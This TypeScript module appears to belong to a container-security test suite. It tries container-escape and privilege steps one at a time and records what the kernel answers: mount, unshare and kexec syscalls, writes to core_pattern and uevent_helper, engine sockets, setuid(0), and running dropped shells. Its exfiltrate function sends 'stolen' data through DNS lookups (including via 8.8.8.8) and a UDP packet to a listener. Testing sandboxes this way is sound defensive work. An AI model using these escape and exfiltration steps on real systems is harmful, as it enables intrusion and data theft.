/**
 * What an attacker tries to get out of its container, or to change in it: each attempt on its own, with
 * the answer of the kernel.
 *
 * @module
 */
import { execFileSync, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import process from "node:process";
import { getSystemErrorName } from "node:util";
import type { Attempt } from "../attempt.ts";

/** Milliseconds until something that says nothing counts as silent. */
const SILENT_MS = 1_500;

/** What is tried, by name; each gives `done` or what kept it from that. */
type Tries = Readonly<Record<string, () => unknown>>;

function attempted(tries: Tries): readonly Attempt[] {
  return Object.entries(tries).map(([what, run]) => {
    try {
      const got = run();
      return { what, got: typeof got === "string" ? got : "done" };
    } catch (error) {
      return { what, got: codeOf(error) };
    }
  });
}

function codeOf(error: unknown): string {
  if (typeof error !== "object" || error === null) return String(error);
  if ("code" in error && typeof error.code === "string") return error.code;
  return "message" in error ? String(error.message).slice(0, 100) : "failed";
}

/** Runs lines of Perl, which can say to the kernel what Node cannot. */
function perl(script: string): string {
  return execFileSync("/usr/bin/perl", ["-e", script], {
    encoding: "utf8",
    stdio: ["ignore", "pipe", "ignore"],
    timeout: 20_000,
  });
}

/** Attempts of which each is an expression of Perl that is true when it worked. */
function inPerl(expressions: Readonly<Record<string, string>>): readonly Attempt[] {
  const lines = Object.values(expressions).map((expression) =>
    `$! = 0; print((${expression}) ? "0\\n" : ($! + 0 || "?") . "\\n");`
  );
  const numbers = perl(lines.join("\n")).trim().split("\n");
  return Object.keys(expressions).map((what, at) => {
    const number = Number(numbers[at]);
    const got = number === 0 ? "done" : Number.isNaN(number) ? "?" : getSystemErrorName(-number);
    return { what, got };
  });
}

/** Numbers of system calls: x86-64, and the table that arm64 shares with all newer architectures. */
const CALLS: Readonly<Record<string, readonly [x64: number, arm64: number, args: string]>> = {
  "mount a tmpfs": [165, 40, `"none", "/tmp", "tmpfs", 0, 0`],
  "remount / writable": [165, 40, `"none", "/", "", 0x20, 0`],
  "unshare the user namespace": [272, 97, "0x10000000"],
  "unshare the mount namespace": [272, 97, "0x20000"],
  "unshare the network namespace": [272, 97, "0x40000000"],
  "setns": [308, 268, "0, 0"],
  "pivot_root": [155, 41, `"/tmp", "/tmp"`],
  "chroot": [161, 51, `"/tmp"`],
  "mknod of a disk": [259, 33, `-100, "/tmp/disk", 0x61b6, 0x800`],
  "bpf": [321, 280, "0, 0, 0"],
  "init_module": [175, 105, `0, 0, ""`],
  "kexec_load": [246, 104, "0, 0, 0, 0"],
  "open_by_handle_at": [304, 265, `3, "${"0".repeat(32)}", 0`],
  "perf_event_open": [298, 241, `"${"0".repeat(128)}", 0, -1, -1, 0`],
  "keyctl": [250, 219, "0, -3, 0, 0, 0"],
  "userfaultfd": [323, 282, "0"],
  "settimeofday": [164, 170, `"${"0".repeat(16)}", 0`],
  "sethostname": [170, 161, `"owned", 5`],
  "swapon": [167, 224, `"/tmp/swap", 0`],
  "reboot": [169, 142, "0, 0, 0, 0"],
};

function systemCalls(names: readonly string[]): readonly Attempt[] {
  const arm = process.arch !== "x64";
  const expressions = names.map((name): [string, string] => {
    const [x64, arm64, args] = CALLS[name] ?? [-1, -1, "0"];
    // Perl hands text over as a pointer to a buffer that may be written to, so it must be a variable.
    const texts: string[] = [];
    const plain = args.replace(/"[^"]*"/g, (text) => `$t[${texts.push(text) - 1}]`);
    return [name, `@t = (${texts.join(", ")}), syscall(${arm ? arm64 : x64}, ${plain}) != -1`];
  });
  return inPerl(Object.fromEntries(expressions));
}

/** Raw sockets, of which a program may forge packets. */
export function rawSockets(): readonly Attempt[] {
  return inPerl({
    "AF_INET SOCK_RAW": "socket(S, 2, 3, 1)",
    "AF_INET6 SOCK_RAW": "socket(S, 10, 3, 58)",
    "AF_PACKET SOCK_RAW": "socket(S, 17, 3, 768)",
  });
}

/** File systems of its own. */
export function mounts(): readonly Attempt[] {
  return systemCalls(["mount a tmpfs", "remount / writable", "pivot_root"]);
}

/** Namespaces of its own, or of others. */
export function namespaces(): readonly Attempt[] {
  const names = Object.keys(CALLS).filter((name) => /^(unshare|setns)/.test(name));
  return systemCalls(names);
}

/** Devices, and another root. */
export function devices(): readonly Attempt[] {
  return systemCalls(["mknod of a disk", "chroot"]);
}

/** Doors of the kernel that lead out of containers. */
export function kernelDoors(): readonly Attempt[] {
  const others = /^(mount|remount|pivot_root|unshare|setns|mknod|chroot)/;
  return systemCalls(Object.keys(CALLS).filter((name) => !others.test(name)));
}

/** Its own files. */
export function ownFiles(): readonly Attempt[] {
  const places = ["/", "/etc/", "/usr/bin/", "/bin/", "/attacks/", "/dev/"];
  const write = places.map((place): [string, () => void] => [
    `write to ${place}`,
    () => fs.writeFileSync(`${place}owned`, "x"),
  ]);
  return attempted({
    ...Object.fromEntries(write),
    "append to /etc/passwd": () => fs.appendFileSync("/etc/passwd", "x"),
    "change its own program": () => fs.appendFileSync("/attacks.mjs", "x"),
    "make a folder": () => fs.mkdirSync("/owned"),
    "remove /usr/bin/perl": () => fs.unlinkSync("/usr/bin/perl"),
  });
}

/** Programs that it brings along. */
export function executables(): readonly Attempt[] {
  const loader = fs.readFileSync("/proc/self/maps", "utf8").match(/\S+\/ld-linux\S*$/m)?.[0];
  const drop = (folder: string) => () => {
    const path = `${folder}/dropped`;
    fs.copyFileSync("/bin/sh", path);
    fs.chmodSync(path, 0o755);
    execFileSync(path, ["-c", "true"], { stdio: "ignore" });
  };
  return attempted({
    "execute a file in /tmp": drop("/tmp"),
    "execute a file in /dev/shm": drop("/dev/shm"),
    ...(loader !== undefined && {
      "load a file in /tmp as a program": () => {
        fs.copyFileSync("/bin/sh", "/tmp/loaded");
        const { status, stderr } = spawnSync(loader, ["/tmp/loaded", "-c", "true"]);
        if (status === 0) return undefined;
        return /failed to map segment/.test(String(stderr)) ? "not mapped" : String(stderr);
      },
    }),
  });
}

/** Another user, root above all. */
export function users(): readonly Attempt[] {
  const status = fs.readFileSync("/proc/self/status", "utf8");
  const field = (name: string): string =>
    new RegExp(`^${name}:\\s+(\\S+)`, "m").exec(status)?.[1] ?? "?";
  const unless = (held: boolean, got: string): string => held ? got : "done";
  return [
    ...attempted({
      "setuid(0)": () => process.setuid?.(0),
      "setgid(0)": () => process.setgid?.(0),
      "setgroups(0)": () => process.setgroups?.([0]),
      "run as root a program that is set-user-ID root": () => {
        const uid = execFileSync("/attacks/id", ["-u"], { encoding: "utf8" }).trim();
        return unless(uid !== "0", `ran as ${uid}`);
      },
      "start as root": () => unless(process.getuid?.() !== 0, `is ${process.getuid?.()}`),
    }),
    {
      what: "have capabilities",
      got: unless(/^0+$/.test(field("CapEff") + field("CapBnd")), "none"),
    },
    { what: "gain privileges", got: unless(field("NoNewPrivs") === "1", "NoNewPrivs") },
    { what: "be without seccomp", got: unless(field("Seccomp") === "2", "Seccomp 2") },
  ];
}

/** Places of the kernel that tell about, or change, the machine. */
export function kernelFiles(): readonly Attempt[] {
  const write = (path: string, text: string) => () => fs.writeFileSync(path, text);
  const read = (path: string) => () => {
    const file = fs.openSync(path, "r");
    try {
      const bytes = fs.readSync(file, Buffer.alloc(64));
      // The engine puts nothing in the place of some.
      if (bytes === 0) return "empty";
    } finally {
      fs.closeSync(file);
    }
    return undefined;
  };
  return attempted({
    "write /proc/sys/kernel/core_pattern": write("/proc/sys/kernel/core_pattern", "|/tmp/x"),
    "write /proc/sys/vm/overcommit_memory": write("/proc/sys/vm/overcommit_memory", "1"),
    "write /proc/sysrq-trigger": write("/proc/sysrq-trigger", "h"),
    "write /proc/1/oom_score_adj": write("/proc/1/oom_score_adj", "-1000"),
    "write to the cgroup": write("/sys/fs/cgroup/cgroup.procs", "1"),
    "write /sys/kernel/uevent_helper": write("/sys/kernel/uevent_helper", "/tmp/x"),
    "read /proc/kcore": read("/proc/kcore"),
    "read /dev/kmsg": read("/dev/kmsg"),
    "read /proc/kmsg": read("/proc/kmsg"),
    "read /dev/mem": read("/dev/mem"),
    "read a disk": read("/dev/vda"),
    "read the disk sda": read("/dev/sda"),
  });
}

/** The sockets of engines. */
export async function engineSockets(): Promise<readonly Attempt[]> {
  const folders = ["/var/run", "/run"];
  const names = ["docker.sock", "containerd/containerd.sock", "podman/podman.sock"];
  const paths = folders.flatMap((folder) => names.map((name) => `${folder}/${name}`));
  return await Promise.all(
    paths.map(async (path) => ({ what: path, got: await connected({ path }) })),
  );
}

/** Whether anybody at these addresses answers: `open`, or a refusal, which is an answer too. */
export async function reach(targets: readonly string[]): Promise<readonly Attempt[]> {
  return await Promise.all(targets.map(async (what) => {
    const [, host = "", port = ""] = /^\[?(.*?)\]?:(\d+)$/.exec(what) ?? [];
    return { what, got: await connected({ host, port: Number(port) }) };
  }));
}

function connected(to: net.NetConnectOpts): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect({ ...to, timeout: SILENT_MS });
    const settle = (got: string): void => {
      socket.destroy();
      resolve(got);
    };
    socket.once("connect", () => settle("done"));
    socket.once("timeout", () => settle("silence"));
    socket.once("error", (error) => settle(codeOf(error)));
  });
}

/**
 * Names that carry what was stolen, through whatever answers questions of DNS.
 *
 * @param listener `<host>:<port>`, where somebody would take packets.
 */
export async function exfiltrate(name: string, listener: string): Promise<readonly Attempt[]> {
  const options = { timeout: SILENT_MS, tries: 1 };
  const resolver = new dns.Resolver(options);
  const direct = new dns.Resolver(options);
  direct.setServers(["8.8.8.8"]);
  const ask = async (what: string, question: () => Promise<unknown>): Promise<Attempt> => {
    try {
      await question();
      return { what, got: "done" };
    } catch (error) {
      return { what, got: codeOf(error) };
    }
  };
  return await Promise.all([
    ask(`look up stolen.${name}`, () => dns.lookup(`stolen.${name}`)),
    ask(`ask for TXT of stolen.${name}`, () => resolver.resolveTxt(`stolen.${name}`)),
    ask("ask 8.8.8.8", () => direct.resolve4(`stolen.${name}`)),
    send(listener),
  ]);
}

/** Sends a packet; that the system takes it says nothing of where it goes. */
async function send(listener: string): Promise<Attempt> {
  const [host = "", port = ""] = listener.split(":");
  const socket = dgram.createSocket("udp4");
  const got = await new Promise<string>((resolve) => {
    socket.on("error", (error) => resolve(codeOf(error)));
    socket.send(
      "stolen",
      Number(port),
      host,
      (error) => resolve(error === null ? "sent" : codeOf(error)),
    );
  });
  socket.close();
  return { what: "send a packet", got };
}
